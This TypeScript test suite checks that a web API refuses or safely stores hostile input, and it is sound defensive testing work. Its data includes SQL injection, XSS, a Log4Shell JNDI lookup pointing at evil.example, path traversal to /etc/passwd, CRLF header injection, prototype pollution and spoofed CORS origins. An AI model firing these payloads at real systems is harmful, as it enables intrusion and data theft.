import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ApiProcess, startApi } from '../support/api-process.ts';
import { type Answer, Caller } from '../support/caller.ts';
import { foundOrganization, newPerson, password, type Person } from '../support/people.ts';

let api: ApiProcess;
let anyone: Caller;
let person: Person;

beforeAll(async () => {
  api = await startApi({ CORS_ORIGINS: 'https://app.example' });
  anyone = new Caller(api.address);
  person = await newPerson(api, 'Someone');
}, 30_000);
afterAll(() => api[Symbol.asyncDispose]());

describe('bodies', () => {
  it.each([
    ['cut off', '{"email":"a@example.com"'],
    ['empty', ''],
    ['not an object', '"text"'],
    ['a list', '[]'],
    ['null', 'null'],
    ['numbers for texts', '{"email":1,"password":2}'],
    ['objects for texts', '{"email":{"$ne":""},"password":{"$ne":""}}'],
    ['lists for texts', '{"email":["a@example.com"],"password":["x"]}'],
    ['poisoned prototypes', '{"__proto__":{"admin":true},"email":"a@example.com","password":"x"}'],
    ['poisoned constructors', '{"constructor":{"prototype":{}},"email":"a@example.com","password":"x"}'],
    ['fields that nobody asked for', '{"email":"a@example.com","password":"x","role":"owner"}'],
    ['nested a thousandfold', `${'['.repeat(1000)}${']'.repeat(1000)}`],
  ])('that are %s are refused with 400', async (_kind, body) => {
    expect((await anyone.post('/sessions', body)).status).toBe(400);
  });

  it('beyond 64 KiB are refused with 413, announced or not', async () => {
    const { status } = await anyone.post('/sessions', { email: 'a'.repeat(70_000), password: 'x' });
    expect(status).toBe(413);
  });

  it.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data', 'application/xml', 'x'])(
    'of the type %s are refused with 415',
    async (type) => {
      const body = JSON.stringify({ email: person.email, password });
      const { status } = await anyone.send('POST', '/sessions', body, { 'content-type': type });
      expect(status).toBe(415);
    },
  );

  it('cannot assign what the schema does not name', async () => {
    const body = {
      name: 'Mass',
      slug: 'mass-assigned',
      id: person.userId,
      createdAt: '2000-01-01T00:00:00Z',
    };
    expect((await person.caller.post('/organizations', body)).status).toBe(400);
  });
});

describe('text', () => {
  const attacks = [
    "'; drop table users; --",
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '${jndi:ldap://evil.example/a}',
    '../../../../etc/passwd',
    '\u202Egnp.exe',
  ];

  it.each(attacks)('is kept as it came, and never taken for more: %j', async (name) => {
    const organization = await foundOrganization(person, name);
    const { json, headers, text } = await person.caller.get(`/organizations/${organization.id}`);
    expect(json).toMatchObject({ name });
    expect(headers.get('content-type')).toMatch(/^application\/json/);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('set-cookie')).toBeNull();
    expect(text).not.toContain('\r\n');
  });

  it.each(attacks)('in an address is not echoed as a page: %j', async (attack) => {
    const { status, headers } = await anyone.get(`/${encodeURIComponent(attack)}`);
    expect(status).toBe(404);
    expect(headers.get('content-type')).toMatch(/^application\/problem\+json/);
  });

  it.each(['a\u0000b', 'one\r\nSet-Cookie: session=evil', '\u001b[2J', '   ', ''])(
    'with control characters, or without any other, is refused: %j',
    async (name) => {
      const { status } = await person.caller.post('/organizations', { name, slug: 'with-control' });
      expect(status).toBe(400);
    },
  );

  it.each([
    '/docs/../../package.json',
    '/docs/static/..%2f..%2f..%2fpackage.json',
    '/docs/static/%2e%2e/%2e%2e/x',
  ])('as a path leads out of no folder: %s', async (path) => {
    const answer = await raw(`GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 (30\d|40[034])/);
    expect(answer).not.toContain('dependencies');
  });

  it('in a host header does not become a page', async () => {
    const answer = await raw(
      'GET / HTTP/1.1\r\nHost: "><script>alert(1)</script>\r\nConnection: close\r\n\r\n',
    );
    expect(answer).not.toContain('<script>');
  });
});

describe('accounts', () => {
  const registration = (email: string): Promise<Answer> => anyone.post('/accounts', { email, name: 'X' });

  it('cannot be enumerated by registering, by forgotten passwords or by logging in', async () => {
    const pairs = await Promise.all(
      [
        [registration(person.email), registration('nobody-yet@example.com')],
        ['/accounts/password-requests', '/accounts/password-requests'].map((path, index) =>
          anyone.post(path, { email: [person.email, 'nobody@example.com'][index] }),
        ),
        [person.email, 'nobody@example.com'].map((email) =>
          anyone.post('/sessions', { email, password: 'wrong' }),
        ),
      ].map((pair) => Promise.all(pair)),
    );
    for (const [known, unknown] of pairs) expect(shapeOf(known!)).toEqual(shapeOf(unknown!));
  });
});

describe('browsers', () => {
  it('of other origins are not let in', async () => {
    const foreign = await anyone.get('/health', { origin: 'https://evil.example' });
    expect(foreign.headers.get('access-control-allow-origin')).toBeNull();
    const named = await anyone.get('/health', { origin: 'https://app.example' });
    expect(named.headers.get('access-control-allow-origin')).toBe('https://app.example');
    expect(named.headers.get('access-control-allow-credentials')).toBeNull();
  });

  it.each(['https://app.example.evil.example', 'https://evil-app.example', 'null', 'http://app.example'])(
    'that pretend to be a known origin are not let in: %s',
    async (origin) => {
      const { headers } = await anyone.get('/health', { origin });
      expect(headers.get('access-control-allow-origin')).toBeNull();
    },
  );

  it('may neither frame nor sniff what is served', async () => {
    const { headers } = await anyone.get('/');
    expect(headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(headers.get('x-frame-options')).toBe('SAMEORIGIN');
    expect(headers.get('x-powered-by')).toBeNull();
    expect(headers.get('server')).toBeNull();
  });
});

function shapeOf({ status, json, headers }: Answer): object {
  return {
    status,
    body: { ...(json as object), requestId: undefined },
    length: headers.get('content-length'),
  };
}

/** Sends bytes that no well-behaved client would. */
function raw(text: string): Promise<string> {
  const { hostname, port } = new URL(api.address);
  return new Promise((resolve, reject) => {
    let answer = '';
    const socket = connect(Number(port), hostname, () => socket.write(text));
    socket.on('data', (chunk) => (answer += chunk.toString()));
    socket.on('close', () => resolve(answer));
    socket.on('error', reject);
  });
}
